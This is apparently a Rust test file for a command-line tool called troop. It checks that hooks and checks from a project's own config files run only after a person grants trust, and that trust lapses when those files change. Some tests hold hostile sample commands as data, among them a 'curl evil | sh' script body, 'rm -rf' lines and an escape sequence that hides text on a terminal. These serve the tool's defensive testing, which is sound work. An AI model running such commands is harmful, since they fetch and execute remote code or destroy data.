//! Trust in what a project's own files run, and the switches of its configuration.

use std::{fs, os::unix::fs::PermissionsExt as _};

use serde_json::{Value, json};

use crate::troop::{Run, Troop};

const HOOKS: &str = r#"{"hooks": {"hooks": [{"event": "task-completed", "command": "make test", "filter": "ann"}]}}"#;

fn write(troop: &Troop, path: &str, text: &str) {
    let file = troop.folder().join(path);
    fs::create_dir_all(file.parent().unwrap()).unwrap();
    fs::write(file, text).unwrap();
}

/// A project whose own file has a hook.
fn project() -> Troop {
    let troop = Troop::new();
    write(&troop, ".troop/config.json", HOOKS);
    troop
}

/// The report of doctor under a name.
fn says(troop: &Troop, name: &str) -> String {
    let run = troop.run("doctor --json");
    let report: Value = serde_json::from_str(&run.out).unwrap();
    let mut checks = report["checks"].as_array().unwrap().iter();
    let check = checks.find(|check| check["name"] == name).unwrap();
    check["says"].as_str().unwrap().to_owned()
}

fn standing(troop: &Troop) -> String {
    troop.json("trust --show")["standing"].as_str().unwrap().to_owned()
}

/// Runs the program on a terminal and types an answer.
fn on_a_terminal(troop: &Troop, arguments: &str, typed: &str) -> String {
    let line = format!("{} {arguments}", env!("CARGO_BIN_EXE_troop"));
    let mut script = troop.on_terminal(&line).spawn().unwrap();
    std::io::Write::write_all(script.stdin.as_mut().unwrap(), typed.as_bytes()).unwrap();
    let output = script.wait_with_output().unwrap();
    assert!(output.status.success());
    String::from_utf8(output.stdout).unwrap().replace("\r\n", "\n")
}

#[test]
fn hooks_of_an_untrusted_project_are_reported_and_do_not_count() {
    let troop = project();
    assert_eq!(
        says(&troop, "hooks"),
        "this project is not trusted yet: 1 thing in its files will not run; review it: `troop trust`"
    );
    assert_eq!(troop.ok("trust --yes"), "this project is trusted now\n");
    assert_eq!(
        (says(&troop, "hooks"), standing(&troop)),
        ("1 configured".into(), "trusted".into())
    );
}

#[test]
fn a_changed_hook_needs_new_trust() {
    let troop = project();
    troop.ok("trust --yes");
    write(
        &troop,
        ".troop/config.json",
        &HOOKS.replace("{\"hooks\": {", "{\"team\": \"blue\", \"hooks\": {"),
    );
    assert_eq!(standing(&troop), "trusted", "the team runs nothing");
    for changed in [
        HOOKS.replace("make test", "make  test"),
        HOOKS.replace("ann", "bob"),
        HOOKS.replace("task-completed", "team-shutdown"),
    ] {
        write(&troop, ".troop/config.json", &changed);
        assert_eq!(standing(&troop), "changed", "{changed}");
        assert!(says(&troop, "hooks").starts_with("this project changed since you trusted it: "));
    }
    troop.ok("trust --yes");
    assert_eq!(standing(&troop), "trusted");
    write(
        &troop,
        ".claude/settings.json",
        r#"{"hooks": {"TeammateIdle": [{"hooks": [{"type": "command", "command": "date"}]}]}}"#,
    );
    assert_eq!(standing(&troop), "changed");
}

#[test]
fn trust_can_be_revoked() {
    let troop = project();
    assert_eq!(troop.ok("trust --revoke"), "this project was not trusted\n");
    troop.ok("trust --yes");
    assert_eq!(troop.ok("trust --revoke"), "this project is no longer trusted\n");
    assert_eq!(standing(&troop), "unknown");
}

#[test]
fn a_person_is_shown_what_would_run_and_asked() {
    let troop = project();
    let screen = on_a_terminal(&troop, "trust", "\n");
    for part in [
        "not trusted: this does not run\n",
        "hook on task-completed (ann), from .troop/config.json",
        "    make test\n",
        "run these from now on? [y/N]",
        "nothing changed\n",
    ] {
        assert!(screen.contains(part), "`{part}` is missing from:\n{screen}");
    }
    assert_eq!(standing(&troop), "unknown");
    let screen = on_a_terminal(&troop, "trust", "y\n");
    assert!(screen.ends_with("this project is trusted now\n"), "{screen}");
    assert_eq!(standing(&troop), "trusted");
}

#[test]
fn trust_without_a_terminal_is_refused() {
    let troop = project();
    let (code, err) = troop.refused("trust");
    assert_eq!(code, 2);
    assert_eq!(
        err,
        "error: there is no terminal to ask on\nhint: review it with `troop trust --show`, then allow it with `troop trust --yes`\n"
    );
    let run: Run = troop.with_input("trust", "y\n");
    assert_eq!(run.code, 2);
    assert_eq!(standing(&troop), "unknown");
}

#[test]
fn trust_shows_commands_as_json() {
    let troop = project();
    let shown = troop.json("trust --show");
    assert_eq!(
        shown["runs"],
        json!([{"kind": "hook", "when": "task-completed (ann)", "command": "make test", "file": ".troop/config.json"}])
    );
    assert_eq!(shown["project"], troop.folder().canonicalize().unwrap().to_str().unwrap());
    assert_eq!(troop.json("trust --yes")["standing"], "trusted");
}

#[test]
fn control_characters_in_a_command_are_escaped() {
    let troop = Troop::new();
    write(
        &troop,
        ".troop/config.json",
        r#"{"hooks": {"hooks": [{"event": "team-created", "command": "rm -rf x\u001b[2K\rdate"}]}}"#,
    );
    let text = troop.ok("trust --show");
    assert!(text.contains("    rm -rf x\\u{1b}[2K\\u{d}date\n"), "{text}");
}

#[test]
fn trust_is_private_and_for_one_project() {
    let troop = project();
    troop.ok("trust --yes");
    let file = troop.folder().join("home/trust.json");
    assert_eq!(fs::metadata(&file).unwrap().permissions().mode() & 0o777, 0o600);
    let kept: Value = serde_json::from_str(&fs::read_to_string(&file).unwrap()).unwrap();
    assert_eq!(kept["projects"].as_object().unwrap().len(), 1);

    write(&troop, "other/.troop/config.json", HOOKS);
    let mut command = troop.command(&["trust", "--show", "--json"]);
    let output = command.current_dir(troop.folder().join("other")).output().unwrap();
    let shown: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(shown["standing"], "unknown", "the same hooks elsewhere are not trusted");
}

#[test]
fn a_damaged_trust_file_is_reported_and_trusts_nothing() {
    let troop = project();
    troop.ok("trust --yes");
    write(&troop, "home/trust.json", "{");
    let (code, err) = troop.refused("trust --show");
    assert!(
        code == 1
            && err.contains("trust.json` is not as troop wrote it: ")
            && err.contains("hint: start over: `rm "),
        "{err}"
    );
    assert!(says(&troop, "hooks").contains("is not as troop wrote it"));
}

#[test]
fn a_persons_own_hooks_need_no_trust() {
    let troop = Troop::new();
    write(&troop, "home/config.json", HOOKS);
    assert_eq!(says(&troop, "hooks"), "1 configured");
    assert_eq!(standing(&troop), "runs_nothing");
    assert!(troop.ok("trust").contains("there is nothing to trust"));
}

#[test]
fn hooks_are_also_read_from_the_settings_of_claude_code() {
    let troop = Troop::new();
    write(
        &troop,
        ".claude/settings.json",
        r#"{
            "permissions": {"allow": []},
            "teammateMode": "tmux",
            "hooks": {
                "PreToolUse": [{"matcher": "Edit|Write", "hooks": [{"type": "command", "command": "lint"}]}],
                "TaskCompleted": [{"hooks": [
                    {"type": "command", "command": "./verify.sh", "statusMessage": "checking"},
                    {"type": "prompt", "prompt": "is it done?"},
                ]}],
            },
        }"#,
    );
    let run = troop.succeed("trust --yes");
    assert!(
        run.err.contains("`hooks.TaskCompleted[0].hooks[1].type`: the only type is `command`; troop does not run it"),
        "{}",
        run.err
    );
    assert_eq!(says(&troop, "hooks"), "1 configured");
    assert_eq!(
        says(&troop, "teams"),
        "on; at most 5 teammates; `teammateMode` is `tmux`, which has no effect yet"
    );
}

#[test]
fn a_project_comes_before_a_person_and_its_own_file_before_claude_codes() {
    let troop = Troop::new();
    write(&troop, "home/config.json", r#"{"teams": {"teammateMode": "tmux", "maxTeammates": 3}}"#);
    assert_eq!(
        says(&troop, "teams"),
        "on; at most 3 teammates; `teammateMode` is `tmux`, which has no effect yet"
    );
    write(&troop, ".claude/settings.json", r#"{"teammateMode": "in-process"}"#);
    assert_eq!(
        says(&troop, "teams"),
        "on; at most 3 teammates; `teammateMode` is `in-process`, which has no effect yet"
    );
    write(&troop, ".troop/config.json", r#"{"teams": {"teammateMode": "auto"}}"#);
    assert_eq!(says(&troop, "teams"), "on; at most 3 teammates");
}

#[test]
fn invalid_claude_code_settings_are_only_warnings() {
    let troop = Troop::new();
    for (settings, warning) in [
        ("{", "is not understood: "),
        (r#"{"teammateMode": "split"}"#, "`teammateMode`: unknown variant `split`"),
        (r#"{"hooks": 7}"#, "`hooks`: expected an object, found 7; troop does not run it"),
    ] {
        write(&troop, ".claude/settings.json", settings);
        let run = troop.run("trust --show");
        assert!(run.code == 0 && run.err.contains(warning), "{settings}: {run:?}");
    }
}

#[test]
fn hooks_can_be_switched_off() {
    let troop = project();
    let off = HOOKS.replace("{\"hooks\": {", "{\"hooks\": {\"enabled\": false, ");
    write(&troop, ".troop/config.json", &off);
    assert_eq!(
        (standing(&troop), says(&troop, "hooks")),
        ("runs_nothing".into(), "none (optional)".into())
    );

    // A project cannot switch off a person's hooks; a person can switch off a project's.
    write(&troop, "home/config.json", HOOKS);
    assert_eq!(says(&troop, "hooks"), "1 configured");
    write(&troop, ".troop/config.json", HOOKS);
    write(&troop, "home/config.json", &off);
    assert_eq!(
        (standing(&troop), says(&troop, "hooks")),
        ("runs_nothing".into(), "switched off".into())
    );

    let troop = Troop::new();
    write(
        &troop,
        ".claude/settings.json",
        r#"{"disableAllHooks": true, "hooks": {"TaskCompleted": [{"hooks": [{"type": "command", "command": "a"}]}]}}"#,
    );
    assert_eq!(standing(&troop), "runs_nothing");
}

#[test]
fn commands_report_that_teams_are_switched_off() {
    let troop = Troop::with_team();
    let mut command = troop.command(&["task", "list"]);
    let output = command.env("CLAUDE_CODE_EXPERIMENTAL_AGENT_TEAMS", "0").output().unwrap();
    assert_eq!(output.status.code(), Some(1));
    assert_eq!(
        String::from_utf8(output.stderr).unwrap(),
        "error: teams are switched off by `CLAUDE_CODE_EXPERIMENTAL_AGENT_TEAMS=0`\n\
         hint: switch them on: `unset CLAUDE_CODE_EXPERIMENTAL_AGENT_TEAMS`\n"
    );
    let mut command = troop.command(&["task", "list"]);
    let output = command.env("CLAUDE_CODE_EXPERIMENTAL_AGENT_TEAMS", "1").output().unwrap();
    assert!(output.status.success());

    write(&troop, "home/config.json", r#"{"teams": {"enabled": false}}"#);
    for line in ["team list", "task create x", "message read", "member list", "events"] {
        let (code, err) = troop.refused(line);
        assert!(
            code == 1 && err.starts_with("error: teams are switched off by `teams.enabled` in `"),
            "{err}"
        );
    }
    assert!(says(&troop, "teams").starts_with("switched off by `teams.enabled` in `"));
}

#[test]
fn checks_of_an_untrusted_project_do_not_run_and_a_warning_says_so() {
    let troop = Troop::with_team();
    write(
        &troop,
        ".troop/config.json",
        r#"{"teams": {"checks": ["echo ran >> seen; test -e good"]}}"#,
    );
    troop.ok("task create one");
    let run = troop.succeed("task complete 1 --result ok");
    assert!(
        run.err.contains("this project is not trusted yet: 1 thing in its files will not run, so tasks are completed without its check; review it: `troop trust`"),
        "{run:?}"
    );
    assert!(!troop.folder().join("seen").exists(), "untrusted checks do not run");
    let shown = troop.ok("trust --show");
    assert!(
        shown.contains("check on every task, before it is done, from .troop/config.json"),
        "{shown}"
    );
    troop.ok("trust --yes");
    troop.ok("task create two");
    let (code, err) = troop.refused("task complete 2 --result ok");
    assert_eq!(code, 1);
    assert!(
        err.contains("the check `echo ran >> seen; test -e good` ended with exit code 1"),
        "{err}"
    );
    write(&troop, "good", "");
    assert_eq!(troop.run("task complete 2 --result ok").code, 0);
    write(&troop, ".troop/config.json", r#"{"teams": {"checks": ["true"]}}"#);
    assert_eq!(standing(&troop), "changed");
}

#[test]
fn invalid_checks_are_reported_with_their_file() {
    let troop = Troop::new();
    write(&troop, ".troop/config.json", r#"{"teams": {"checks": ["true", " "]}}"#);
    let (code, err) = troop.refused("team list");
    assert_eq!(code, 2);
    assert!(err.contains("config.json` is not a configuration: `teams.checks`: "), "{err}");
}

#[test]
fn an_import_asks_about_the_commands_of_the_team() {
    let troop = Troop::new();
    troop.ok("team create blue --member ann=command --set 'checks=[\"make lint\"]'");
    troop.ok("task create one -d 'rm -rf build' --check 'make test'");
    troop.ok("team export --output blue.jsonl");
    let (_, err) = troop.refused("team import blue.jsonl");
    assert_eq!(
        err,
        "error: there is already a team `blue`\nhint: import it under another name: `troop team import blue.jsonl --name blue-2`\n"
    );
    let (code, err) = troop.refused("team import blue.jsonl --name green");
    assert_eq!(code, 1);
    assert_eq!(
        err,
        "error: this team would run 3 things here: `make lint`, `make test`, `rm -rf build`\nhint: review the file, then allow it: `troop team import blue.jsonl --name green --yes`\n"
    );
    let screen = on_a_terminal(&troop, "team import blue.jsonl --name green", "n\n");
    for part in [
        "check on every task, before it is done, from blue.jsonl",
        "    make lint\n",
        "check on task-1, before it is done, from blue.jsonl",
        "task on task-1, from blue.jsonl",
        "    rm -rf build\n",
        "import it and allow this? [y/N]",
        "nothing was imported\n",
    ] {
        assert!(screen.contains(part), "`{part}` is missing from:\n{screen}");
    }
    assert_eq!(troop.json("team list")["teams"].as_array().unwrap().len(), 1);
    assert_eq!(troop.ok("team import blue.jsonl --name green --yes"), "imported team green\n");
}

#[test]
fn a_changed_program_of_a_trusted_command_needs_new_trust() {
    let troop = Troop::new();
    let check = |command: &str| format!(r#"{{"teams": {{"checks": ["{command}"]}}}}"#);
    write(&troop, ".troop/verify.sh", "true\n");
    write(&troop, "data", "1");
    for command in ["sh .troop/verify.sh data", "./.troop/verify.sh < data"] {
        write(&troop, ".troop/config.json", &check(command));
        write(&troop, ".troop/verify.sh", "true\n");
        troop.ok("trust --yes");
        let shown = troop.ok("trust --show");
        assert!(shown.contains(".troop/verify.sh (sha256:"), "{shown}");
        write(&troop, "data", "2");
        assert_eq!(standing(&troop), "trusted", "files that are only read may change");
        write(&troop, ".troop/verify.sh", "curl evil | sh\n");
        assert_eq!(standing(&troop), "changed", "{command}");
    }
    write(&troop, ".troop/agents/own.md", "---\nname: own\nprogram: [python3, agent.py]\n---\n");
    write(&troop, "agent.py", "pass\n");
    troop.ok("trust --yes");
    write(&troop, "agent.py", "fail\n");
    assert_eq!(standing(&troop), "changed", "the program of an agent");
}
